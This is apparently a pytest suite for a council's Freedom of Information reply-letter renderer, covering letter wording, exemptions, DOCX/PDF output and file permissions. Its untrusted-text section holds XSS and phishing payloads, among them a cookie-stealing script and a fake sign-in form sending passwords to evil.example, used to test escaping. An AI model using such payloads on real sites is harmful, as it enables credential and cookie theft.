"""Rendering of the reply letter.

These are unit tests of rendering only: the drafts are built by hand here rather than produced by the drafting
pipeline, so each test controls exactly which statuses, exemptions, markers and flags the letter receives.
"""
from __future__ import annotations

import io
import os
import re
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import textwrap
import time
import urllib.request
import zipfile
from datetime import date, datetime, timezone
from pathlib import Path

import docx
import pytest
from docx.shared import Mm

from assistant.letter import LetterContext, build_letter, letter_docx, render_letter, strip_markers
from assistant.models import Citation, Draft, Flag, Question, Status
from assistant.settings import Settings

REPO = Path(__file__).resolve().parent.parent
MARKER = re.compile(r"\[\d+\]")
PLACEHOLDER = "[Answer to be completed by the officer]"
PLACEHOLDER_MD = "\\[Answer to be completed by the officer\\]"
NOT_READY = "NOT READY TO SEND"


@pytest.fixture()
def ctx() -> LetterContext:
    """The demo council's contact details, from the settings defaults."""
    return LetterContext.from_settings(
        Settings(), reference="FOI 12409004", received=date(2025, 5, 14), reply_date=date(2025, 6, 9)
    )


def provided(number: str = "1") -> Draft:
    return Draft(
        question=Question(number, "Does the council have a standalone CSE strategy?"),
        answer="Yes, the partnership strategy covers child exploitation [1]. It is reviewed every year [2].",
        status=Status.PROVIDED,
        citations=[
            Citation(1, "u1", "2025-cse", "Child sexual exploitation strategy", "FOI 7339781", "2024-03-19",
                     "All partnership policies and procedures are hosted on the LSCP website"),
            Citation(2, "u2", "lscp-strategy", "LSCP strategy", "", "2024-01-01", "The strategy is reviewed annually"),
        ],
    )


def personal_data(number: str = "2") -> Draft:
    return Draft(
        question=Question(number, "How many children were identified as:", [("a", "at risk of CSE"),
                                                                              ("b", "victims of CSE")]),
        answer="In the last 12 months 528 screening tools were received [1]. The numbers for part b are withheld "
               "under section 40(2) because they are small enough to identify the children concerned [1].",
        status=Status.PARTLY_PROVIDED,
        exemptions=["s40(2)"],
        citations=[Citation(1, "u3", "2025-cse", "Child exploitation", "FOI 12409004", "2025-06-09",
                            "528 CE screening tools were received")],
        flags=[Flag("small_numbers", "The answer may contain a figure under 5.")],
    )


def commercial(number: str = "3") -> Draft:
    return Draft(
        question=Question(number, "What is the hourly rate paid to each provider?"),
        answer="The rates are withheld under section 43(2) as release would prejudice the providers in future "
               "tenders.",
        status=Status.EXEMPT,
        exemptions=["section 43(2)"],
    )


def published(number: str = "4") -> Draft:
    return Draft(
        question=Question(number, "Please provide the annual report."),
        answer="The annual report is published at https://www.lincolnshire.gov.uk/lscp-annual-report.",
        status=Status.PUBLISHED_ELSEWHERE,
        exemptions=["s21"],
    )


def not_held(number: str = "5") -> Draft:
    return Draft(
        question=Question(number, "What was the budget for child exploitation work?"),
        answer="The budget is not recorded separately, so this information is not held.",
        status=Status.NOT_HELD,
    )


def needs_review(number: str = "6", answer: str = "Note for the officer: no evidence was found.") -> Draft:
    return Draft(
        question=Question(number, "How many audits were completed?"),
        answer=answer,
        status=Status.NEEDS_REVIEW,
        flags=[Flag("no_evidence", "No passage supports an answer.")],
    )


def cost(number: str = "7") -> Draft:
    return Draft(
        question=Question(number, "List every referral since 2010 with its outcome."),
        answer="Answering would mean reading each case file by hand, so it would exceed the appropriate limit.",
        status=Status.EXEMPT,
        exemptions=["s12"],
    )


def docx_text(data: bytes) -> str:
    return "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)


# ------------------------------------------------------------------------------------------- requester copy


def test_requester_copy_holds_every_answer_without_markers(ctx: LetterContext) -> None:
    drafts = [provided(), personal_data(), commercial(), published()]
    text = render_letter(ctx, drafts, "requester")
    assert not MARKER.search(text)
    for draft in drafts:
        assert strip_markers(draft.answer) in text
    assert "Yes, the partnership strategy covers child exploitation. It is reviewed every year." in text
    assert "Does the council have a standalone CSE strategy?" in text
    assert "2a) at risk of CSE" in text and "2b) victims of CSE" in text


def test_requester_copy_has_header_review_and_ico(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided()], "requester")
    assert "Lincolnshire County Council" in text
    assert "Freedom of Information request FOI 12409004" in text
    assert "14 May 2025" in text and "9 June 2025" in text
    assert "Dear Requester," in text
    assert "internal review" in text and "40 working days" in text
    # The FOI team's contact and the internal review address come from the settings.
    header = text.split("Dear ")[0]
    assert "Information Governance Team" in header and "County Offices" in header and "LN1 1YL" in header
    assert "Email: foi@lincolnshire.gov.uk" in header
    review = text.split("## Internal review")[1].split("## Complaining")[0]
    assert "the Information Governance Manager" in review and "Internal Reviews" in review
    assert "Newland" in review and "Email: foi@lincolnshire.gov.uk" in review
    assert "Information Commissioner's Office" in text
    assert "Wycliffe House" in text and "Wilmslow" in text and "SK9 5AF" in text
    assert "ico.org.uk/make-a-complaint" in text and "0303 123 1113" in text
    assert text.rstrip().endswith("Information Governance Officer  \nInformation Governance Team  \nLincolnshire County Council")
    assert NOT_READY not in text


def test_contact_details_follow_the_settings() -> None:
    settings = Settings(council="Rutland County Council", foi_team="FOI Unit", foi_email="foi@rutland.example",
                        foi_address="Catmose\nOakham\nLE15 6HP", review_email="reviews@rutland.example",
                        review_address="Monitoring Officer, Catmose, Oakham", review_contact="the Monitoring Officer")
    ctx = LetterContext.from_settings(settings, reference="R1", received=date(2025, 5, 14), reply_date=date(2025, 6, 9))
    text = render_letter(ctx, [provided()], "requester")
    assert text.startswith("# Rutland County Council\n\nFOI Unit  \nCatmose  \nOakham  \nLE15 6HP  \nEmail: foi@rutland.example")
    review = text.split("## Internal review")[1].split("## Complaining")[0]
    assert "write to the Monitoring Officer" in review and "Email: reviews@rutland.example" in review
    assert "Lincolnshire" not in text


def test_requester_copy_has_no_reviewer_material(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided(), personal_data()], "requester")
    assert "INTERNAL REVIEW COPY" not in text
    assert "528 CE screening tools were received" not in text  # a source quote
    assert "small_numbers" not in text and "figure under 5" not in text and "Small numbers" not in text
    assert "partly_provided" not in text and "Partly provided" not in text


def test_named_requester_is_greeted(ctx: LetterContext) -> None:
    ctx.requester = "Ms Jane Smith"
    assert "Dear Ms Jane Smith," in render_letter(ctx, [provided()], "requester")


def test_s40_2_refusal_without_public_interest_test(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided(), personal_data()], "requester")
    assert "Section 40(2) – Personal data of third parties (question 2)" in text
    assert "UK General Data Protection Regulation" in text
    # The draft's own reason is carried into the refusal notice.
    refusal = text.split("Section 40(2) – Personal data of third parties")[1]
    assert "small enough to identify the children concerned" in refusal
    assert "Public interest test" not in text


def test_qualified_exemption_gets_public_interest_test(ctx: LetterContext) -> None:
    text = render_letter(ctx, [commercial()], "requester")
    assert "Section 43 – Commercial interests (question 3)" in text
    assert "Public interest test" in text
    assert "Section 43 is a qualified exemption" in text


def test_section_21_refusal_gives_link_and_no_public_interest_test(ctx: LetterContext) -> None:
    text = render_letter(ctx, [published()], "requester")
    refusal = text.split("Section 21 – ")[1]
    assert "https://www.lincolnshire.gov.uk/lscp-annual-report" in refusal
    assert "Public interest test" not in text


def test_one_refusal_paragraph_per_exemption_naming_all_its_questions(ctx: LetterContext) -> None:
    text = render_letter(ctx, [personal_data("2"), commercial("3"), personal_data("8")], "requester")
    assert text.count("### Section 40(2)") == 1
    assert "(questions 2 and 8)" in text


def test_cost_limit_adds_advice_and_assistance(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided(), cost()], "requester")
    assert "£450" in text and "18 hours" in text
    assert "Advice and assistance" in text and "section 16" in text
    assert "Advice and assistance" not in render_letter(ctx, [provided(), personal_data()], "requester")


HOLDS = "holds information within the scope of your request"


@pytest.mark.parametrize(
    ("drafts", "expected", "absent"),
    [
        ([provided("1"), provided("2")], "holds the information you asked for", HOLDS),
        ([provided(), personal_data()], HOLDS, "does not hold the information"),
        ([provided(), not_held()], HOLDS, "does not hold the information you"),
        ([published("1"), not_held("2")], HOLDS, "does not hold the information you"),
        ([not_held("1"), not_held("2")], "does not hold the information you asked for", "holds"),
        ([cost("1"), cost("2")], "exceed the appropriate limit", "holds"),
        # Nothing is given: the opening must not say the council holds information.
        ([commercial("1"), not_held("2")], "with the reasons where information is not held or cannot be provided", "holds"),
        ([commercial("1")], "with the reasons where information is not held or cannot be provided", "holds"),
    ],
)
def test_opening_follows_statuses(ctx: LetterContext, drafts: list[Draft], expected: str, absent: str) -> None:
    opening = render_letter(ctx, drafts, "requester").split("## Your request")[0]
    assert expected in opening
    assert absent not in opening
    assert NOT_READY not in opening


def test_unfinished_answer_is_a_placeholder_and_a_warning_not_a_claim(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided(), needs_review()], "requester")
    assert PLACEHOLDER_MD in text
    assert "Note for the officer" not in text and "no evidence was found" not in text
    assert text.startswith(f"> ⚠️ **{NOT_READY}. For the officer: question 6 is not finished")
    opening = text.split("## Your request")[0].split("Dear ")[1]
    assert "holds" not in opening and "does not hold" not in opening
    assert "Our response to each of your questions is set out below." in opening


@pytest.mark.parametrize(
    "draft",
    [
        needs_review(answer="Two audits were completed in 2024."),  # officer's text, status not yet decided
        Draft(Question("6", "How many audits?"), PLACEHOLDER, Status.PROVIDED),  # the placeholder left in
        Draft(Question("6", "How many audits?"), "There were [number to be confirmed] audits.", Status.PROVIDED),
        Draft(Question("6", "How many audits?"), "", Status.NOT_HELD),
    ],
)
def test_any_unfinished_answer_turns_the_opening_into_a_warning(ctx: LetterContext, draft: Draft) -> None:
    text = render_letter(ctx, [provided(), draft], "requester")
    assert NOT_READY in text.split("Dear ")[0] and "question 6" in text.split("Dear ")[0]
    assert "holds" not in text.split("## Your request")[0].split("Dear ")[1]
    document = docx.Document(io.BytesIO(letter_docx(ctx, [provided(), draft], "requester")))
    warning = document.paragraphs[0]
    assert warning.text.startswith(NOT_READY) and all(r.bold for r in warning.runs)
    assert warning.runs[0].font.color.rgb is not None and str(warning.runs[0].font.color.rgb) == "B00020"


def test_several_unfinished_answers_are_all_named(ctx: LetterContext) -> None:
    text = render_letter(ctx, [needs_review("3"), provided("4"), needs_review("6")], "requester")
    assert "For the officer: questions 3 and 6 are not finished" in text


def test_officer_edited_answer_is_sent(ctx: LetterContext) -> None:
    edited = needs_review(answer="Two audits were completed in 2024.")
    edited.status = Status.PROVIDED
    text = render_letter(ctx, [provided(), edited], "requester")
    assert "Two audits were completed in 2024." in text
    assert PLACEHOLDER_MD not in text and NOT_READY not in text


def test_template_code_in_answer_text_is_not_run(ctx: LetterContext) -> None:
    injected = Draft(
        question=Question("1", "What is {{ 7*7 }}?"),
        answer="The total is {{ 7*7 }} and {% if true %}yes{% endif %}.",
        status=Status.PROVIDED,
    )
    for copy in ("requester", "reviewer"):
        text = render_letter(ctx, [injected], copy)
        answer_line = next(line for line in text.splitlines() if line.startswith("The total is"))
        assert "7*7" in answer_line and "49" not in answer_line
        assert "if true" in answer_line
        assert "{{" not in text and "{%" not in text
        assert "What is 7*7" in text


def test_unknown_exemption_is_still_explained(ctx: LetterContext) -> None:
    draft = Draft(Question("1", "Q?"), "Withheld.", Status.EXEMPT, exemptions=["section 24"])
    text = render_letter(ctx, [draft], "requester")
    assert "withheld under section 24 of the Freedom of Information Act 2000" in text


def test_strip_markers_fixes_spacing() -> None:
    assert strip_markers("It is held [1]. Also [2], and [3][4]; end [1, 2].") == "It is held. Also, and; end."


# -------------------------------------------------------------------------------------------- reviewer copy


def test_reviewer_copy_has_banner_markers_sources_and_flags(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided(), personal_data(), needs_review()], "reviewer")
    assert text.startswith("> **INTERNAL REVIEW COPY – NOT TO BE SENT")
    assert "covers child exploitation [1]. It is reviewed every year [2]." in text
    assert "1. [1] Child sexual exploitation strategy, FOI 7339781, 2024-03-19: “All partnership policies" in text
    assert "2. [2] LSCP strategy, 2024-01-01: “The strategy is reviewed annually”" in text
    # Statuses, flags and exemptions in plain words, never as codes.
    assert "- Small numbers of people (consider s40(2)): The answer may contain a figure under 5." in text
    assert "- No supporting evidence found: No passage supports an answer." in text
    assert "**Status:** Partly provided" in text
    assert "**Exemptions:** Section 40(2) – Personal data of third parties" in text
    assert "**Status:** Needs review" in text
    assert "Note for the officer: no evidence was found" in text  # the reviewer sees the note itself
    for code in ("partly_provided", "needs_review", "small_numbers", "no_evidence", "not_held"):
        assert code not in text


def test_reviewer_pack_words_every_status_and_unknown_codes(ctx: LetterContext) -> None:
    drafts = [provided("1"), personal_data("2"), commercial("3"), published("4"), not_held("5"), cost("7")]
    drafts[0].flags = [Flag("stale_source", "Source [1] is two years old."), Flag("brand_new_check", "Checked.")]
    drafts[0].status_reason = "Re-uses the answer to question 1 of 28 June 2023 (ref FOI 6981442), match 0.79."
    text = render_letter(ctx, drafts, "reviewer")
    assert "**Status:** Provided – Re-uses the answer to question 1 of 28 June 2023 (ref FOI 6981442)." in text
    assert "0.79" not in text and "match" not in text
    for words in ("Provided", "Partly provided", "Exempt (refused)", "Published elsewhere (s21)", "Not held"):
        assert f"**Status:** {words}" in text
    assert "- Source may be out of date: Source [1] is two years old." in text
    assert "- Brand new check: Checked." in text  # a code nobody has worded yet is still made readable
    assert not re.search(r"\b[a-z]+_[a-z_]+\b", text), re.findall(r"\b[a-z]+_[a-z_]+\b", text)
    pack = docx_text(letter_docx(ctx, drafts, "reviewer"))
    assert "Status: Not held" in pack and "Source may be out of date: Source [1] is two years old." in pack
    assert not re.search(r"\b[a-z]+_[a-z_]+\b", pack)


def test_reviewer_sources_are_listed_under_their_own_question(ctx: LetterContext) -> None:
    text = render_letter(ctx, [provided("1"), commercial("3")], "reviewer")
    question_3 = text.split("### Question 3")[1].split("## Information we are not able to provide")[0]
    assert "LSCP strategy" not in question_3
    assert "No sources cited." in question_3
    assert "**Exemptions:** Section 43 – Commercial interests" in question_3


def test_build_letter_rejects_bad_input(ctx: LetterContext) -> None:
    with pytest.raises(ValueError):
        build_letter(ctx, [], "requester")
    with pytest.raises(ValueError):
        build_letter(ctx, [provided()], "public")  # type: ignore[arg-type]


# ------------------------------------------------------------------------------------------------------ DOCX


def test_requester_docx_holds_answers_without_markers(ctx: LetterContext) -> None:
    drafts = [provided(), personal_data(), commercial(), needs_review()]
    text = docx_text(letter_docx(ctx, drafts, "requester"))
    assert not MARKER.search(text)
    for draft in drafts[:3]:
        assert strip_markers(draft.answer) in text
    assert PLACEHOLDER in text and "Note for the officer" not in text and NOT_READY in text
    assert "Section 40(2) – Personal data of third parties" in text
    assert "Public interest test" in text
    assert "SK9 5AF" in text and "40 working days" in text
    assert "INTERNAL REVIEW COPY" not in text


def test_docx_reads_answer_text_as_markdown(ctx: LetterContext) -> None:
    draft = Draft(
        question=Question("1", "Which partners attend?"),
        answer="The partners are listed below and\nmeet weekly [1].\n\n- Police\n- Health\n\nFirst line  \nSecond line",
        status=Status.PROVIDED,
    )
    document = docx.Document(io.BytesIO(letter_docx(ctx, [draft], "requester")))
    paragraphs = [(p.text, p.style.name) for p in document.paragraphs]
    assert ("The partners are listed below and meet weekly.", "Normal") in paragraphs
    assert ("Police", "List Bullet") in paragraphs and ("Health", "List Bullet") in paragraphs
    assert ("First line\nSecond line", "Normal") in paragraphs


def test_a_list_ends_where_the_next_paragraph_starts(ctx: LetterContext) -> None:
    """The drafts' own shape: an intro, items, then a paragraph with no blank line before it."""
    draft = Draft(
        question=Question("6", "Please provide membership of the partnership."),
        answer="The organisations taking part are: [1]\n- Lincolnshire Police [1]\n• Children's Services [1]\n"
               "Depending on the case, education settings are also invited. [1]\n"
               "MACE Level 1 meets weekly. [1]\n\n1. first step\n2. second step\nAfter the steps.",
        status=Status.PROVIDED,
    )
    document = docx.Document(io.BytesIO(letter_docx(ctx, [draft], "requester")))
    paragraphs = [(p.text, p.style.name) for p in document.paragraphs]
    start = paragraphs.index(("The organisations taking part are:", "Normal"))
    assert paragraphs[start + 1 : start + 8] == [
        ("Lincolnshire Police", "List Bullet"),
        ("Children's Services", "List Bullet"),
        ("Depending on the case, education settings are also invited.", "Normal"),
        ("MACE Level 1 meets weekly.", "Normal"),
        ("1.\tfirst step", "Normal"),
        ("2.\tsecond step", "Normal"),
        ("After the steps.", "Normal"),
    ]
    text = render_letter(ctx, [draft], "requester")
    assert "- Lincolnshire Police\n- Children's Services\n\nDepending on the case" in text


def test_sub_part_labels_are_kept(ctx: LetterContext) -> None:
    """ "7a) … 7b) … 7c)": the splitter gives question 7 the text of 7a and parts b and c; 9 has an intro."""
    audits = Draft(Question("7", "Does the council audit exploitation cases? If so, please provide:",
                            [("b", "The number of audits"), ("c", "The key findings")]), "Yes.", Status.PROVIDED)
    counts = Draft(Question("9", "Please provide the number of:", [("a", "Children at risk"), ("b", "Victims")]),
                   "See below.", Status.PROVIDED)
    text = render_letter(ctx, [audits, counts], "requester")
    assert "> 7a) Does the council audit exploitation cases? If so, please provide:  \n> 7b) The number of audits" \
           "  \n> 7c) The key findings" in text
    assert "> Please provide the number of:  \n> 9a) Children at risk  \n> 9b) Victims" in text
    paragraphs = [p.text for p in docx.Document(io.BytesIO(letter_docx(ctx, [audits, counts], "requester"))).paragraphs]
    for label in ("7a) Does the council audit", "7b) The number of audits", "7c) The key findings",
                  "9a) Children at risk", "9b) Victims"):
        assert any(p.startswith(label) for p in paragraphs), label


def test_docx_is_a4_with_document_properties(ctx: LetterContext) -> None:
    created = datetime(2025, 6, 9, 10, 30, tzinfo=timezone.utc)
    document = docx.Document(io.BytesIO(letter_docx(ctx, [provided()], "requester", created=created)))
    section = document.sections[0]
    assert abs(section.page_width - Mm(210)) < Mm(0.5) and abs(section.page_height - Mm(297)) < Mm(0.5)
    assert abs(section.left_margin - Mm(25)) < Mm(0.1) and abs(section.right_margin - Mm(25)) < Mm(0.1)
    props = document.core_properties
    assert props.author == "Information Governance Team, Lincolnshire County Council"
    assert props.last_modified_by == props.author and "python-docx" not in (props.author + props.last_modified_by)
    assert props.title == "Freedom of Information request FOI 12409004"
    assert props.created == created.replace(tzinfo=None) or props.created == created
    assert props.category == "FOI response"
    assert "Freedom of Information request FOI 12409004 – page" in section.footer.paragraphs[0].text
    pack = docx.Document(io.BytesIO(letter_docx(ctx, [provided()], "reviewer")))
    assert pack.core_properties.category == "FOI reviewer pack (internal)"
    assert abs((datetime.now(timezone.utc).replace(tzinfo=None) - pack.core_properties.created.replace(tzinfo=None))
               .total_seconds()) < 120


def test_reviewer_docx_has_banner_sources_and_flags(ctx: LetterContext) -> None:
    document = docx.Document(io.BytesIO(letter_docx(ctx, [provided(), personal_data()], "reviewer")))
    paragraphs = [p.text for p in document.paragraphs]
    assert paragraphs[0].startswith("INTERNAL REVIEW COPY")
    assert "[1] Child sexual exploitation strategy, FOI 7339781, 2024-03-19: “All partnership policies and " \
           "procedures are hosted on the LSCP website”" in paragraphs
    assert "Small numbers of people (consider s40(2)): The answer may contain a figure under 5." in paragraphs
    assert "Status: Partly provided" in paragraphs
    assert any(MARKER.search(p) for p in paragraphs)
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert "Question 1" in headings and "Question 2" in headings


# ------------------------------------------------------------------------------- rendered as a reader sees it

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
POPPLER = all(shutil.which(tool) for tool in ("pdftoppm", "pdfinfo", "pdftotext"))
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"


def render_pdf(docx_path: Path) -> Path:
    """LibreOffice headless, with its own profile folder so parallel runs do not share one."""
    profile = docx_path.parent / "lo-profile"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf",
         "--outdir", str(docx_path.parent), str(docx_path)],
        check=True, capture_output=True, timeout=180,
    )
    return docx_path.with_suffix(".pdf")


def png_size(path: Path) -> tuple[int, int]:
    header = path.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", header[16:24])


@pytest.mark.skipif(not (SOFFICE and POPPLER), reason="needs LibreOffice (soffice) and poppler-utils: `make letter-deps`")
def test_letter_renders_as_an_a4_page_with_lists_and_labels(ctx: LetterContext, tmp_path: Path) -> None:
    partners = Draft(
        Question("6", "Please provide membership of the partnership."),
        "The organisations taking part are: [1]\n- Lincolnshire Police [1]\n- Children's Services [1]\n"
        "Depending on the case, education settings are also invited. [1]",
        Status.PROVIDED,
    )
    audits = Draft(Question("7", "Does the council audit exploitation cases?", [("b", "The number of audits")]),
                   "Two audits were completed.", Status.PROVIDED)
    path = tmp_path / "letter.docx"
    path.write_bytes(letter_docx(ctx, [provided(), partners, audits], "requester"))
    pdf = render_pdf(path)
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"Page size:\s+595(\.\d+)? x 841(\.\d+)? pts \(A4\)", info), info
    assert re.search(r"Title:\s+Freedom of Information request FOI 12409004\n", info)
    assert re.search(r"Author:\s+Information Governance Team, Lincolnshire County Council\n", info)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "7a) Does the council audit exploitation cases?" in text and "7b) The number of audits" in text
    bullet = ("•", "\uf0b7")  # Word's bullet comes out of the Symbol font as U+F0B7
    items = [line.strip()[1:].strip() for line in text.splitlines() if line.strip().startswith(bullet)]
    assert items == ["Lincolnshire Police", "Children's Services"]
    assert re.search(r"\n\s*Depending on the case, education settings are also invited\.", text)
    assert "Email: foi@lincolnshire.gov.uk" in text and "0303 123 1113" in text
    assert not MARKER.search(text)
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")], check=True)
    page = next(tmp_path.glob("page*.png"))
    width, height = png_size(page)
    assert abs(height / width - 297 / 210) < 0.01
    ARTIFACTS.mkdir(exist_ok=True)
    shutil.copy(page, ARTIFACTS / "letter-page-1.png")  # to look at


# ----------------------------------------------------------------------- untrusted text stays text (issue H2)

FAKE_SIGN_IN = (
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">'
    "<h1>Session expired</h1><form action=\"https://evil.example/steal\" method=\"post\">"
    '<input name="password" type="password"><button>Sign in</button></form></div>'
)
ATTACKS = [
    FAKE_SIGN_IN,
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "![tracking pixel](https://evil.example/pixel.png?who=requester)",
    "[Click to verify your account](https://evil.example/login)",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "<https://evil.example/autolink>",
    "[1]: https://evil.example/defined.png\n\n![1]",
]
# What must never appear in HTML made from the letter, by our renderer or by any CommonMark renderer.
DANGEROUS = re.compile(r"<\s*(div|form|script|img|input|iframe|a|style|button)\b|<h1>Session|<[^>]*\b(src|href|style)=", re.I)


def hostile_drafts(attack: str) -> tuple[LetterContext, list[Draft]]:
    ctx = LetterContext.from_settings(
        Settings(), reference=f"FOI 1 {attack}", received=date(2025, 5, 14), reply_date=date(2025, 6, 9),
        requester=f"Ms Smith {attack}",
    )
    drafts = [
        Draft(Question("1", f"How many cases? {attack}", [("b", f"And {attack}")]),
              f"There were 12 cases [1].\n\n{attack}\n\n- a list item {attack}", Status.PROVIDED,
              citations=[Citation(1, "u1", "d1", f"Title {attack}", "FOI 2", "2024-01-01", f"Quote {attack}")],
              flags=[Flag("unsupported", f"Unsupported: {attack}")], status_reason=f"Because {attack}"),
        Draft(Question("2", "Which rates?"), f"Withheld under section 43(2) because {attack} would prejudice "
              "the providers in future tenders.", Status.EXEMPT, exemptions=["s43"]),
    ]
    return ctx, drafts


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("copy", ["requester", "reviewer"])
def test_requester_and_answer_html_never_becomes_markup(attack: str, copy: str) -> None:
    from markdown_it import MarkdownIt

    from assistant.ui.export_view import letter_preview

    ctx, drafts = hostile_drafts(attack)
    text = render_letter(ctx, drafts, copy)
    # The exported .md holds no raw HTML, image or link: even a renderer that allows HTML makes none of it.
    permissive = MarkdownIt("commonmark", {"html": True}).render(text)
    assert not DANGEROUS.search(permissive), DANGEROUS.search(permissive)
    assert "<" not in re.sub(r"\\<", "", text)
    # The Export tab's preview (the same Markdown through the app's renderer) is escaped text too.
    preview = letter_preview(text)
    assert preview.startswith("<div class='letter-preview'>") and preview.endswith("</div>")
    inner = preview[len("<div class='letter-preview'>") : -len("</div>")]
    assert not DANGEROUS.search(inner), DANGEROUS.search(inner)
    # The text is still there for the reader, as the characters that were typed.
    assert "evil.example" in preview
    if attack.startswith("<div"):
        assert "&lt;form action=&quot;https://evil.example/steal&quot;" in preview
    # Word shows the same characters as plain text.
    words = docx_text(letter_docx(ctx, drafts, copy))
    assert f"Dear Ms Smith {' '.join(attack.split())}," in words.splitlines()


def test_preview_renderer_refuses_markup_even_from_a_hand_edited_file() -> None:
    from assistant.markup import markdown_html

    html = markdown_html("Hello <b>there</b>\n\n![x](https://evil.example/x.png) [y](https://evil.example)\n\n"
                         "<div style='position:fixed'>x</div>\n\n<https://evil.example>")
    assert not DANGEROUS.search(html), html
    assert "&lt;b&gt;there&lt;/b&gt;" in html and "![x](https://evil.example/x.png)" in html


def test_hostile_markdown_cannot_pose_as_a_letter_section(ctx: LetterContext) -> None:
    draft = Draft(Question("1", "Q?"), "Answer.\n# Internal review\nSend your bank details.\n```\n---",
                  Status.PROVIDED)
    text = render_letter(ctx, [draft], "requester")
    assert text.count("## Internal review") == 1 and "\n# Internal review" not in text
    assert "\\# Internal review" in text and "\n```" not in text


def test_a_very_long_reference_or_council_name_still_makes_a_word_file() -> None:
    ctx = LetterContext.from_settings(Settings(council="C" * 300), reference="R" * 300, received=date(2025, 5, 14),
                                      reply_date=date(2025, 6, 9))
    document = docx.Document(io.BytesIO(letter_docx(ctx, [provided()], "requester")))
    assert len(document.core_properties.title) == 255 and len(document.core_properties.author) == 255
    assert "R" * 300 in docx_text(letter_docx(ctx, [provided()], "requester"))


# ------------------------------------------------------------------------ private files (issue M10)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_exports_and_cases_database_are_private(tmp_path: Path) -> None:
    from assistant.cases import CaseStore
    from assistant.export import export_case, remove_private_files

    settings = Settings(data_dir=tmp_path / "data")
    (tmp_path / "data" / "exports").mkdir(parents=True, mode=0o755)  # an older, looser folder is tightened
    os.chmod(tmp_path / "data" / "exports", 0o755)
    store = CaseStore(settings.cases_db)
    assert mode(settings.cases_db) == 0o600
    case_id = store.create_case("1. How many audits?", reference="FOI 5/B", received=date(2025, 5, 14),
                                requester="Ms <i>Smith</i>", created_by="olga")
    store.save_drafts(case_id, [provided("1")], "olga")
    for suffix in ("-wal", "-shm"):  # SQLite gives its side files the database's mode
        side = settings.cases_db.with_name(settings.cases_db.name + suffix)
        if side.exists():
            assert mode(side) == 0o600, side
    files = export_case(store.get_case(case_id), settings, date(2025, 6, 9))
    assert mode(tmp_path / "data" / "exports") == 0o700 and mode(files.letter_docx.parent) == 0o700
    for path in (files.letter_docx, files.letter_md, files.pack_docx, files.pack_md):
        assert mode(path) == 0o600, path
    assert not list(files.letter_docx.parent.glob("*.part"))
    assert "Dear Ms \\<i\\>Smith\\</i\\>," in files.letter_md.read_text(encoding="utf-8")
    remove_private_files(settings)
    assert not (tmp_path / "data" / "exports").exists()
    assert settings.cases_db.exists()  # cases are kept; only the exported copies go


def test_app_removes_exports_and_its_temp_folder_when_it_stops(tmp_path: Path) -> None:
    """`python app.py`, stopped the way a service manager stops it (SIGTERM)."""
    from assistant.cases import CaseStore
    from assistant.export import export_case

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    data = tmp_path / "data"
    env = {**{k: v for k, v in os.environ.items() if not k.startswith(("FOI_", "GRADIO_TEMP"))},
           "FOI_DATA_DIR": str(data), "FOI_HOST": "127.0.0.1", "FOI_PORT": str(port),
           "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
    leftover = data / "exports" / "case-1" / "left-by-a-killed-run.docx"  # a killed run could not clean up
    leftover.parent.mkdir(parents=True)
    leftover.write_bytes(b"old letter")
    log = (tmp_path / "app.log").open("w")
    proc = subprocess.Popen([sys.executable, str(REPO / "app.py")], cwd=tmp_path, env=env, stdout=log,
                            stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            assert proc.poll() is None, (tmp_path / "app.log").read_text()[-3000:]
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2):
                    break
            except OSError:
                time.sleep(0.5)
        else:
            pytest.fail("the app did not start: " + (tmp_path / "app.log").read_text()[-3000:])
        assert mode(data / "app-temp") == 0o700
        assert not leftover.exists()
        settings = Settings(data_dir=data)
        store = CaseStore(settings.cases_db)
        case_id = store.create_case("1. How many audits?", reference="FOI 9", received=date(2025, 5, 14), created_by="olga")
        store.save_drafts(case_id, [provided("1")], "olga")
        files = export_case(store.get_case(case_id), settings)
        assert files.letter_docx.exists()
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)
        log.close()
    assert not (data / "exports").exists() and not (data / "app-temp").exists()
    assert settings.cases_db.exists()


# ------------------------------------------------------------------------ installed from a wheel (issue M11)


@pytest.mark.slow
def test_a_wheel_install_carries_the_templates_and_exports(tmp_path: Path) -> None:
    subprocess.run([sys.executable, "-m", "pip", "wheel", str(REPO), "--no-deps", "--no-build-isolation", "-q",
                    "-w", str(tmp_path / "dist")], check=True, capture_output=True, timeout=600, cwd=tmp_path)
    wheel = next((tmp_path / "dist").glob("foi_assistant-*.whl"))
    names = set(zipfile.ZipFile(wheel).namelist())
    for source in (REPO / "prompts").rglob("*"):
        if source.is_file():
            assert f"assistant/prompt_files/{source.relative_to(REPO / 'prompts').as_posix()}" in names, source
